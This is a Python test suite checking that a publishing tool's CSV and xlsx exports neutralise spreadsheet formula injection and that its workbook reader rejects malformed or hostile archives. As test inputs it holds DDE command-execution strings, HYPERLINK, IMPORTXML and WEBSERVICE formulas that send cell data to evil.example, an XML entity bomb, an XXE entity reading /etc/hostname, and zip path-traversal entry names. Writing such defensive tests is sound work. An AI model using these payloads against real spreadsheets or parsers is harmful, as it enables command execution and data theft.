"""No table that leaves the house holds a cell that a spreadsheet would run."""

from __future__ import annotations

import asyncio
import csv
import io
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import openpyxl
import pytest

from collector.tables import read_table
from collector.templates import template_csv
from ledger.forms import load_forms
from ledger.problems import Problems
from ledger.spreadsheet import safe_cell
from publisher.data.spreadsheet import SafeCsv, safe_rows
from publisher.download.formats import excel_csv, plain_csv
from publisher.download.sheet import Column, Sheet
from publisher.download.workbook import xlsx

CONTENT = Path(__file__).parents[2] / "content"
STARTS = ("=", "+", "-", "@", "\t", "\r", "\0", "＝", "＋", "－", "＠")
SKIPPED = ("", " ", "  ", "\n", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u2003", "\t", "\r\n", "\u200e")
PAYLOADS = (
    "cmd|' /C calc'!A0", "1+1", "HYPERLINK(\"http://evil.example/?x=\"&A1,\"点这里\")",
    "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "WEBSERVICE(\"http://evil.example\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "SUM(1+1)*cmd|' /C calc'!A0",
    "10+20+cmd|' /C calc'!A0", "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "rundll32|'URL.dll,OpenURL calc.exe'!A", "INDIRECT(\"A1\")", "EXEC(\"calc\")", "A1", "1E5+A1", "-1+1",
    "@SUM(1)", "", "\"a\",b;c\td", "1,5+2", "0x1+A1", "5)+(6",
)  # fmt: skip
NASTY = [f"{skip}{start}{payload}" for skip in SKIPPED for start in STARTS for payload in PAYLOADS]
KEPT = (
    "-5",
    "+3.5",
    "-1e-7",
    "0",
    "走访",
    "a=b",
    "2026-03-02",
    "1-2",
    "",
    "'=x",
    "a@b.cn",
    "（－）",
    "5+3",
    '["=x"]',
)
"""What must come through as it is."""
FORMULA = tuple("=+-@＝＋－＠\t\r\0")


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take a cell for a formula: judged apart from the program's own rule."""
    bare = cell.lstrip(" \n\u00a0\u3000\u200b\ufeff\u2003\u200e\u200f\u200c\u200d\u2060")
    try:
        float(bare)
        return False
    except ValueError:
        return cell.startswith(FORMULA) or bare.startswith(FORMULA)


def sheet() -> Sheet:
    column = Column("text", "TEXT", "string", {"zh": "=1+1", "en": "=1+1"})
    words = {"zh": "=1+1", "en": "=1+1"}
    return Sheet("sheet", "sheet", words, words, (column, replace(column, name="more")), ("text",), {})


def from_csv(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def streamed(rows: list[list[str]]) -> bytes:
    out, sent = io.StringIO(newline=""), []
    csv.writer(out).writerows(rows)
    data = out.getvalue().encode()

    async def run() -> None:
        async def send(message: Any) -> None:
            sent.append(message.get("body", b""))

        safe = SafeCsv(send)
        await safe({"type": "http.response.start", "status": 200, "headers": []})
        for at in range(0, len(data), 4097):
            await safe({"type": "http.response.body", "body": data[at : at + 4097], "more_body": True})
        await safe({"type": "http.response.body", "body": b""})

    asyncio.run(run())
    return b"".join(sent)


WRITERS: dict[str, Callable[[list[list[str]]], bytes]] = {
    "the table as CSV": lambda rows: plain_csv(sheet(), [tuple(row) for row in rows]),
    "the table as CSV for Excel": lambda rows: excel_csv(sheet(), [tuple(row) for row in rows], {}),
    "the totals of a ballot": lambda rows: safe_rows(rows).encode(),
    "Datasette's CSV": streamed,
}


@pytest.mark.parametrize("writer", WRITERS)
def test_no_cell_of_a_csv_would_run(writer: str) -> None:
    rows = [[cell, cell] for cell in (*NASTY, *KEPT)]
    cells = from_csv(WRITERS[writer](rows))
    assert not [cell for cell in cells if runs(cell)]
    assert [cell for cell in KEPT if cell not in cells] == []
    assert len([cell for cell in cells if cell.startswith("'")]) >= 2 * len(NASTY) - 2 * cells.count("")


def test_no_cell_of_a_workbook_is_a_formula() -> None:
    data = xlsx(sheet(), [(cell, cell) for cell in (*NASTY, *KEPT)], {})
    seen = 0
    for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows():
        for cell in row:
            seen += 1
            assert cell.data_type in ("s", "inlineStr", "n") and (cell.data_type != "n" or cell.value is None)
    assert seen >= 2 * len(NASTY)
    with ZipFile(io.BytesIO(data)) as book:
        text = b"".join(book.read(name) for name in book.namelist())
    assert (
        b"<f>" not in text
        and b"<f " not in text
        and b"externalLink" not in text
        and b"vbaProject" not in text
    )


def test_an_empty_table_for_a_form_has_no_heading_that_runs() -> None:
    form = load_forms(CONTENT)["visit"]
    for nasty in NASTY[:: len(NASTY) // 40]:
        first = next(name for name, field in form.fields.items() if not field.each)
        odd = replace(form.fields[first], label={**form.fields[first].label, "zh": nasty})
        cells = from_csv(template_csv(replace(form, fields={**form.fields, first: odd})).encode())
        assert not [cell for cell in cells if runs(cell)]


def test_cells_that_are_written_as_they_are_would_be_seen() -> None:
    assert all(runs(cell) for cell in NASTY if cell.strip(" \n\u00a0\u3000\u200b\ufeff\u2003\u200e"))
    out = io.StringIO(newline="")
    csv.writer(out).writerows([[cell] for cell in NASTY])
    assert len([cell for cell in from_csv(out.getvalue().encode()) if runs(cell)]) > 1000
    assert all(safe_cell(cell) == cell for cell in KEPT)


def test_libreoffice_finds_no_formula(tmp_path: Path) -> None:
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        pytest.skip("no LibreOffice here: the reader in Python stands in for it")
    (tmp_path / "a.csv").write_bytes(
        excel_csv(sheet(), [(cell, cell) for cell in NASTY if "\0" not in cell], {})
    )
    command = [
        office,
        "--headless",
        "--convert-to",
        "xlsx",
        "--outdir",
        str(tmp_path),
        str(tmp_path / "a.csv"),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=120, env={"HOME": str(tmp_path)})
    for row in openpyxl.load_workbook(tmp_path / "a.xlsx").active.iter_rows():
        assert not [cell for cell in row if cell.data_type == "f"]


def workbook(**parts: bytes) -> bytes:
    """A good workbook with parts put in or in place of its own."""
    good, out = io.BytesIO(), io.BytesIO()
    book = openpyxl.Workbook()
    book.active.append(["a", "b"])
    book.active.append([1, 2])
    book.save(good)
    with ZipFile(good) as old, ZipFile(out, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, data in parts.items():
            new.writestr(name, data)
    return out.getvalue()


ENTITIES = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + b"".join(
    b'<!ENTITY %c "&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;">' % (n, *[n - 1] * 10) for n in range(98, 108)
)
OUTSIDE = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><worksheet>&e;</worksheet>'
)
MULTIPLYING = ENTITIES + b"]><worksheet>&k;</worksheet>"
BOOKS: dict[str, Callable[[], bytes]] = {
    "a sheet that bursts": lambda: workbook(**{"xl/worksheets/sheet1.xml": bytes(257 << 20)}),
    "texts that burst": lambda: workbook(**{"xl/sharedStrings.xml": bytes(257 << 20)}),
    "very many parts": lambda: workbook(**{f"x/{n}": b"" for n in range(3000)}),
    "entities that multiply": lambda: workbook(**{"xl/worksheets/sheet1.xml": MULTIPLYING}),
    "an entity of a file": lambda: workbook(**{"xl/worksheets/sheet1.xml": OUTSIDE}),
    "no archive": lambda: b"PK\x03\x04" + b"\0" * 100,
    "an archive of nothing": lambda: b"PK\x05\x06" + b"\0" * 18,
    "a page": lambda: b"<html>",
}  # fmt: skip


@pytest.mark.parametrize("book", BOOKS)
def test_a_workbook_that_is_none_is_refused_in_words(book: str, tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    path.write_bytes(BOOKS[book]())
    assert path.stat().st_size < 4 << 20
    with pytest.raises(Problems) as told:
        read_table(path)
    assert "t.xlsx" in str(told.value) and "Traceback" not in str(told.value)


def test_names_inside_a_workbook_lead_nowhere(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    names = ("../../evil", "/etc/evil", "..\\evil", "C:\\evil", "xl/../../evil", "a\0b")
    path.write_bytes(workbook(**dict.fromkeys(names, b"evil")))
    before = sorted(tmp_path.parent.rglob("*"))
    assert read_table(path).columns == ("a", "b")
    assert sorted(tmp_path.parent.rglob("*")) == before
